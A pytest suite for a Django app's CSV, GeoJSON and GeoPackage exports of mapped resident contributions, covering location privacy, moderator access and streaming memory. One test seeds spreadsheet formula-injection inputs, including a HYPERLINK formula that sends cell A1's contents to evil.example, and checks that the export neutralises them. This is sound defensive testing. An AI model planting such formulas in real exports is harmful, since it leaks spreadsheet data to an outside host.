"""Exports of contributions: CSV, GeoJSON and GeoPackage, re-read as their users would read them."""

import csv
import io
import math
import sqlite3
import subprocess
import tempfile
import time
import tracemalloc
from datetime import UTC
from pathlib import Path

import pytest
from django.contrib.gis.gdal import DataSource
from django.contrib.gis.geos import GEOSGeometry, LineString, Point, Polygon
from django.core.management import call_command
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from engagement.interop.exports import selectors as export_selectors
from engagement.interop.exports.csv_writer import csv_chunks
from engagement.models import Contribution, Support
from tests.factories import CommentFactory, ContributionFactory, ParticipantFactory
from tests.transforms import transformed

pytestmark = pytest.mark.django_db
CSV_URL = "/exports/contributions.csv"
GEOJSON_URL = "/exports/contributions.geojson"
GPKG_URL = "/exports/contributions.gpkg"
CSV_HEADER = [
    "id",
    "url",
    "campaign",
    "kind",
    "theme",
    "theme_name",
    "title",
    "body",
    "status",
    "supports",
    "comments",
    "created_at",
    "geometry_type",
    "pilots",
    "longitude",
    "latitude",
    "wkt",
]
STORED_POINT = Point(23.6312, 61.5013, srid=4326)
ROUTE = LineString((23.62, 61.50), (23.625, 61.502), (23.628, 61.501), srid=4326)
AREA = Polygon.from_bbox((23.635, 61.498, 23.64, 61.501))
AREA.srid = 4326


def snapped(point: Point) -> Point:
    """The centre of the point's 100 m cell of ETRS-TM35FIN, computed apart from PostGIS."""
    metric = transformed(point, 3067)
    centre = Point(
        math.floor(metric.x / 100) * 100 + 50, math.floor(metric.y / 100) * 100 + 50, srid=3067
    )
    return transformed(centre, 4326)


def public(contribution: Contribution) -> GEOSGeometry:
    geometry = contribution.geometry
    if geometry.geom_type == "Point" and not contribution.exact_location_public:
        return snapped(geometry)
    return geometry


def read_csv(response) -> list[dict[str, str]]:
    content = b"".join(response.streaming_content).decode("utf-8")
    assert content.startswith("\ufeff")
    reader = csv.reader(io.StringIO(content.removeprefix("\ufeff"), newline=""))
    header = next(reader)
    assert header == CSV_HEADER
    return [dict(zip(header, row, strict=True)) for row in reader]


def saved(response, tmp_path: Path, name: str) -> Path:
    target = tmp_path / name
    content = response.streaming_content if response.streaming else [response.content]
    with target.open("wb") as file:
        for piece in content:
            file.write(piece)
    return target


@pytest.fixture
def mapped(theme):
    """A point shown on the grid, a point shown exactly, a route and an area, oldest first."""
    campaign = theme.campaign
    hidden_point = ContributionFactory(
        campaign=campaign, theme=theme, title="Bench by the pond", geometry=STORED_POINT
    )
    exact_point = ContributionFactory(
        campaign=campaign,
        theme=theme,
        kind=Contribution.Kind.NEED,
        title="Lights at the stop",
        geometry=Point(23.6201, 61.4987, srid=4326),
        exact_location_public=True,
    )
    route = ContributionFactory(
        campaign=campaign, theme=theme, title="Winter cycling route", geometry=ROUTE
    )
    area = ContributionFactory(
        campaign=campaign,
        theme=theme,
        kind=Contribution.Kind.NEED,
        title="Meadow instead of lawn",
        body="Let the meadow grow; fewer mowings.",
        geometry=AREA,
        status=Contribution.Status.PLANNED,
    )
    for _ in range(2):
        Support.objects.create(contribution=route, participant=ParticipantFactory())
    CommentFactory(contribution=route)
    return [hidden_point, exact_point, route, area]


# CSV ----------------------------------------------------------------------------------------


def test_csv_has_every_matching_contribution_newest_first(client, mapped):
    ContributionFactory(
        campaign=mapped[0].campaign,
        theme=mapped[0].theme,
        title="Waiting",
        moderation_state=Contribution.ModerationState.PENDING,
    )

    response = client.get(CSV_URL)

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="yhdessa-contributions.csv"'
    rows = read_csv(response)
    assert [int(row["id"]) for row in rows] == [c.pk for c in reversed(mapped)]
    for row, contribution in zip(rows, reversed(mapped), strict=True):
        contribution.refresh_from_db()
        shown = public(contribution)
        centre = shown.centroid
        assert row == {
            "id": str(contribution.pk),
            "url": f"http://testserver/contributions/{contribution.pk}/",
            "campaign": contribution.campaign.slug,
            "kind": contribution.kind,
            "theme": contribution.theme.slug,
            "theme_name": "Innovative routes",
            "title": contribution.title,
            "body": contribution.body,
            "status": contribution.status,
            "supports": str(contribution.supports.count()),
            "comments": str(contribution.comments.count()),
            "created_at": timezone.localtime(contribution.created_at).isoformat(),
            "geometry_type": shown.geom_type,
            "pilots": "",
            "longitude": row["longitude"],
            "latitude": row["latitude"],
            "wkt": row["wkt"],
        }
        # Coordinates to 7 decimals, about 1 cm.
        assert float(row["longitude"]) == pytest.approx(centre.x, abs=0.6e-7)
        assert float(row["latitude"]) == pytest.approx(centre.y, abs=0.6e-7)
        assert GEOSGeometry(row["wkt"], srid=4326).equals_exact(shown, tolerance=0.6e-7)
    assert rows[3]["created_at"].endswith(("+02:00", "+03:00"))  # Helsinki time, with offset
    assert rows[1]["supports"] == "2" and rows[1]["comments"] == "1"


def test_csv_hides_exact_points_from_the_public(client, mapped):
    rows = {int(row["id"]): row for row in read_csv(client.get(CSV_URL))}

    hidden = GEOSGeometry(rows[mapped[0].pk]["wkt"], srid=4326)
    assert not hidden.equals_exact(STORED_POINT, tolerance=1e-7)
    assert hidden.equals_exact(snapped(STORED_POINT), tolerance=0.6e-7)
    exact = GEOSGeometry(rows[mapped[1].pk]["wkt"], srid=4326)
    assert exact.equals_exact(mapped[1].geometry, tolerance=1e-12)
    assert rows[mapped[2].pk]["wkt"] == "LINESTRING(23.62 61.5,23.625 61.502,23.628 61.501)"


def test_csv_filters_as_the_api_does(client, mapped, theme):
    other_theme = type(theme).objects.create(campaign=theme.campaign, name="Green", slug="green")
    green = ContributionFactory(
        campaign=theme.campaign,
        theme=other_theme,
        title="Trees along the street",
        geometry=Point(23.645, 61.503, srid=4326),
    )
    _, exact_point, route, area = mapped

    def ids(**params) -> list[int]:
        return [int(row["id"]) for row in read_csv(client.get(CSV_URL, params))]

    assert ids(kind="need") == [area.pk, exact_point.pk]
    assert ids(theme="green") == [green.pk]
    assert ids(q="meadow") == [area.pk]
    assert ids(status="planned") == [area.pk]
    assert ids(bbox="23.615,61.497,23.625,61.4995") == [exact_point.pk]
    assert ids(campaign=theme.campaign.slug, sort="supported")[0] == route.pk
    # Paging parameters of the API mean nothing here: an export has every row.
    assert len(ids(limit=1, offset=3)) == 5


@pytest.mark.parametrize(
    "params, field",
    [
        ({"kind": "wish"}, "kind"),
        ({"bbox": "23.6,61.5,23.7"}, "bbox"),
        ({"campaign": "no-such-campaign"}, "campaign"),
        ({"sort": "random"}, "sort"),
    ],
)
@pytest.mark.parametrize("url", [CSV_URL, GEOJSON_URL, GPKG_URL])
def test_an_invalid_parameter_is_answered_with_400(client, url, params, field):
    response = client.get(url, params)

    assert response.status_code == 400
    assert response["Content-Type"] == "application/json"
    assert list(response.json()) == [field]


def test_csv_follows_the_language_of_the_address(client, mapped):
    rows = read_csv(client.get("/en/exports/contributions.csv"))

    assert rows[0]["url"] == f"http://testserver/en/contributions/{mapped[3].pk}/"


def test_formula_like_text_is_neutralised(client, theme):
    dangerous = [
        '=HYPERLINK("https://evil.example/?q="&A1,"Click")',
        "+1 more bench",
        "-2 degrees in the tunnel",
        "@SUM(A1:A9)",
        "\tTabbed title",
        "\rReturned title",
    ]
    for text in dangerous:
        ContributionFactory(campaign=theme.campaign, theme=theme, title=text, body=text)
    # A negative longitude is a number the export writes, not text a resident typed.
    ContributionFactory(
        campaign=theme.campaign,
        theme=theme,
        title="Far west",
        geometry=Point(-0.5, 51.5, srid=4326),
        exact_location_public=True,
    )

    rows = read_csv(client.get(CSV_URL))

    assert rows[0]["longitude"] == "-0.5"
    assert rows[0]["wkt"] == "POINT(-0.5 51.5)"
    cells = {(row["title"], row["body"]) for row in rows[1:]}
    assert cells == {("'" + text, "'" + text) for text in dangerous}


def test_nul_at_the_start_of_a_cell_is_neutralised_too():
    # PostgreSQL refuses NUL in text, so the writer is checked on its own.
    text = "".join(csv_chunks(["title", "n"], [["\0=1+2", -3], ["-", 4.5], ["fine", 1]]))

    assert list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""))) == [
        ["title", "n"],
        ["'\0=1+2", "-3"],
        ["'-", "4.5"],
        ["fine", "1"],
    ]


# GeoJSON ------------------------------------------------------------------------------------


def _geojson_features(client, tmp_path, **params) -> dict[int, tuple[str, GEOSGeometry]]:
    response = client.get(GEOJSON_URL, params)
    assert response.status_code == 200
    assert response["Content-Type"] == "application/geo+json"
    assert response["Content-Disposition"] == 'attachment; filename="yhdessa-contributions.geojson"'
    layer = DataSource(str(saved(response, tmp_path, "export.geojson")))[0]
    # GDAL takes each Feature's "id" member as its FID.
    return {feature.fid: (feature.get("title"), feature.geom.geos) for feature in layer}


def test_geojson_has_the_public_geometry_for_everyone(client, mapped, tmp_path):
    features = _geojson_features(client, tmp_path)

    assert set(features) == {c.pk for c in mapped}
    for contribution in mapped:
        title, geometry = features[contribution.pk]
        assert title == contribution.title
        assert geometry.equals_exact(public(contribution), tolerance=1e-6)
    assert not features[mapped[0].pk][1].equals_exact(STORED_POINT, tolerance=1e-5)


def test_geojson_has_the_exact_geometry_for_the_campaigns_moderator(
    client, mapped, moderator, tmp_path
):
    client.force_login(moderator)

    features = _geojson_features(client, tmp_path, campaign=mapped[0].campaign.slug)

    for contribution in mapped:
        assert features[contribution.pk][1].equals_exact(contribution.geometry, tolerance=1e-6)
    # Without naming the campaign the export is the public one, even for its moderator.
    features = _geojson_features(client, tmp_path)
    assert features[mapped[0].pk][1].equals_exact(snapped(STORED_POINT), tolerance=1e-6)


def test_a_moderator_of_another_campaign_gets_the_public_geometry(
    client, mapped, other_moderator, tmp_path
):
    client.force_login(other_moderator)

    features = _geojson_features(client, tmp_path, campaign=mapped[0].campaign.slug)

    assert features[mapped[0].pk][1].equals_exact(snapped(STORED_POINT), tolerance=1e-6)


# GeoPackage ---------------------------------------------------------------------------------


def _gpkg(client, tmp_path, **params) -> Path:
    response = client.get(GPKG_URL, params)
    assert response.status_code == 200
    assert response["Content-Type"] == "application/geopackage+sqlite3"
    assert response["Content-Disposition"] == 'attachment; filename="yhdessa-contributions.gpkg"'
    target = saved(response, tmp_path, "export.gpkg")
    assert target.stat().st_size == int(response["Content-Length"])
    return target


def test_geopackage_has_one_layer_per_geometry_type(client, mapped, tmp_path):
    second_point = ContributionFactory(
        campaign=mapped[0].campaign, theme=mapped[0].theme, title="Second point"
    )
    expected = {
        "contributions_points": [mapped[0], mapped[1], second_point],
        "contributions_lines": [mapped[2]],
        "contributions_polygons": [mapped[3]],
    }

    target = _gpkg(client, tmp_path)

    source = DataSource(str(target))
    assert source.driver.name == "GPKG"
    layers = {layer.name: layer for layer in source}
    # With the pilots (none here) and the contribution-pilot links (test_exports_gis.py).
    assert set(layers) == {*expected, "pilots", "contribution_pilots"}
    for name, contributions in expected.items():
        layer = layers[name]
        assert len(layer) == len(contributions)
        assert layer.srs.srid == 4326
        assert layer.fields == CSV_HEADER[:14]
        by_id = {feature.get("id"): feature for feature in layer}
        for contribution in contributions:
            contribution.refresh_from_db()
            feature = by_id[contribution.pk]
            created_at = contribution.created_at.astimezone(UTC)
            assert {field: feature.get(field) for field in layer.fields} == {
                "id": contribution.pk,
                "url": f"http://testserver/contributions/{contribution.pk}/",
                "campaign": contribution.campaign.slug,
                "kind": contribution.kind,
                "theme": contribution.theme.slug,
                "theme_name": "Innovative routes",
                "title": contribution.title,
                "body": contribution.body,
                "status": contribution.status,
                "supports": contribution.supports.count(),
                "comments": contribution.comments.count(),
                # GDAL reads GeoPackage DATETIME to the second.
                "created_at": created_at.replace(tzinfo=None, microsecond=0),
                "geometry_type": contribution.geometry.geom_type,
                "pilots": "",
            }
            assert feature.geom.geos.equals_exact(public(contribution), tolerance=1e-9)

    with sqlite3.connect(target) as db:
        assert db.execute("PRAGMA application_id").fetchone() == (0x47504B47,)
        assert db.execute("PRAGMA user_version").fetchone() == (10300,)
        assert db.execute(
            "SELECT min_x, min_y, max_x, max_y FROM gpkg_contents "
            "WHERE table_name = 'contributions_polygons'"
        ).fetchone() == pytest.approx((23.635, 61.498, 23.64, 61.501))
        assert {row[0] for row in db.execute("SELECT srs_id FROM gpkg_spatial_ref_sys")} == {
            -1,
            0,
            4326,
        }

    ogrinfo = subprocess.run(
        ["ogrinfo", "-ro", "-so", "-al", str(target)],
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert ogrinfo.returncode == 0, ogrinfo.stderr
    for name in expected:
        assert f"Layer name: {name}" in ogrinfo.stdout
    assert "Feature Count: 3" in ogrinfo.stdout
    assert "ERROR" not in ogrinfo.stderr


def test_geopackage_has_the_exact_geometry_for_the_campaigns_moderator(
    client, mapped, moderator, tmp_path
):
    client.force_login(moderator)

    target = _gpkg(client, tmp_path, campaign=mapped[0].campaign.slug)

    points = DataSource(str(target))["contributions_points"]
    geometries = {feature.get("id"): feature.geom.geos for feature in points}
    assert geometries[mapped[0].pk].equals_exact(STORED_POINT, tolerance=1e-12)


def test_an_empty_geopackage_still_has_a_points_layer(client, theme, tmp_path):
    target = _gpkg(client, tmp_path, campaign=theme.campaign.slug)

    layers = {layer.name: layer for layer in DataSource(str(target))}
    assert set(layers) == {"contributions_points", "pilots", "contribution_pilots"}
    layer = layers["contributions_points"]
    assert len(layer) == 0
    assert layer.geom_type.name == "Point"


# Memory -------------------------------------------------------------------------------------

# Two sizes, the larger three times the smaller: the exports stream, so the peak must not grow
# with the rows. A peak that grew by 400 bytes a row (a list of the rows, a buffered response)
# would grow by 8 MB between them; the old 100,000-row run only caught 2 KB a row (decision 0036).
SMALL_ROWS, LARGE_ROWS = 10_000, 30_000
MEMORY_LIMIT = 200 * 1024 * 1024
GROWTH_LIMIT = 8 * 1024 * 1024


def _download(client, url: str, target: Path, **params) -> tuple[float, int]:
    """Seconds and peak traced bytes of one export, read to the end into a file."""
    tracemalloc.start()
    started = time.perf_counter()
    response = client.get(url, params)
    assert response.status_code == 200
    with target.open("wb") as file:
        for piece in response.streaming_content:
            file.write(piece)
    seconds = time.perf_counter() - started
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    return seconds, peak


def _exported_rows(path: Path, format: str) -> int:
    if format == "CSV":
        with path.open(encoding="utf-8-sig", newline="") as file:
            return sum(1 for _ in csv.reader(file)) - 1
    if format == "GeoJSON":
        return len(DataSource(str(path))[0])
    return len(DataSource(str(path))["contributions_points"])


def test_exports_run_in_flat_memory_as_the_rows_triple(client, theme, tmp_path):
    """Each format exported at SMALL_ROWS and at LARGE_ROWS: every row there, the peak under
    MEMORY_LIMIT, and the peak at three times the rows within GROWTH_LIMIT of the first."""
    campaign = theme.campaign.slug
    formats = {
        "CSV": (CSV_URL, {"campaign": campaign}),
        "GeoJSON": (GEOJSON_URL, {}),
        "GeoPackage": (GPKG_URL, {}),
    }
    peaks: dict[str, list[int]] = {name: [] for name in formats}
    seeded = 0
    for rows in (SMALL_ROWS, LARGE_ROWS):
        call_command("seed_synthetic", contributions=rows - seeded, campaign=campaign)
        seeded = rows
        for name, (url, params) in formats.items():
            target = tmp_path / f"{rows}.{name.lower()}"
            seconds, peak = _download(client, url, target, **params)
            print(f"{name}: {rows} rows in {seconds:.1f} s, tracemalloc peak {peak / 2**20:.1f} MB")
            assert _exported_rows(target, name) == rows
            assert peak < MEMORY_LIMIT
            peaks[name].append(peak)
    for name, (small, large) in peaks.items():
        assert large - small < GROWTH_LIMIT, (
            f"{name}: the peak grew from {small / 2**20:.1f} MB at {SMALL_ROWS} rows "
            f"to {large / 2**20:.1f} MB at {LARGE_ROWS}"
        )


def test_without_server_side_cursors_exports_read_the_rows_in_chunks_by_id(
    client, mapped, tmp_path, monkeypatch
):
    """Behind PgBouncer in transaction mode (DISABLE_SERVER_SIDE_CURSORS) `QuerySet.iterator`
    would read every row at once: the exports read the ordered ids, then chunks of rows by id,
    the same rows in the same order as through a server-side cursor."""
    for n in range(3):
        ContributionFactory(campaign=mapped[0].campaign, theme=mapped[0].theme, title=f"More {n}")
    Support.objects.create(contribution=mapped[3], participant=ParticipantFactory())
    orders = [{}, {"sort": "supported"}, {"sort": "discussed"}]
    through_cursor = [[row["id"] for row in read_csv(client.get(CSV_URL, p))] for p in orders]
    geojson_through_cursor = set(_geojson_features(client, tmp_path))

    monkeypatch.setitem(connection.settings_dict, "DISABLE_SERVER_SIDE_CURSORS", True)
    monkeypatch.setattr(export_selectors, "ID_CHUNK_ROWS", 2)
    with CaptureQueriesContext(connection) as queries:
        in_chunks = [[row["id"] for row in read_csv(client.get(CSV_URL, p))] for p in orders]
    assert in_chunks == through_cursor
    assert len(in_chunks[0]) == 7
    chunks = [q["sql"] for q in queries.captured_queries if "unnest(" in q["sql"]]
    assert len(chunks) == 3 * 4  # 7 rows in chunks of 2, for each order
    assert not any("CURSOR" in q["sql"] for q in queries.captured_queries)
    assert set(_geojson_features(client, tmp_path)) == geojson_through_cursor
    (points,) = [layer for layer in DataSource(str(_gpkg(client, tmp_path))) if len(layer) > 2]
    assert len(points) == 5


def test_the_geopackage_temporary_file_is_deleted_once_sent(client, mapped):
    def temporary_files() -> set[Path]:
        return set(Path(tempfile.gettempdir()).glob("yhdessa-*.gpkg"))

    before = temporary_files()

    response = client.get(GPKG_URL)
    (sending,) = temporary_files() - before
    content = b"".join(response.streaming_content)  # the test client then closes the response

    assert content.startswith(b"SQLite format 3\0")
    assert not sending.exists()
    assert temporary_files() == before
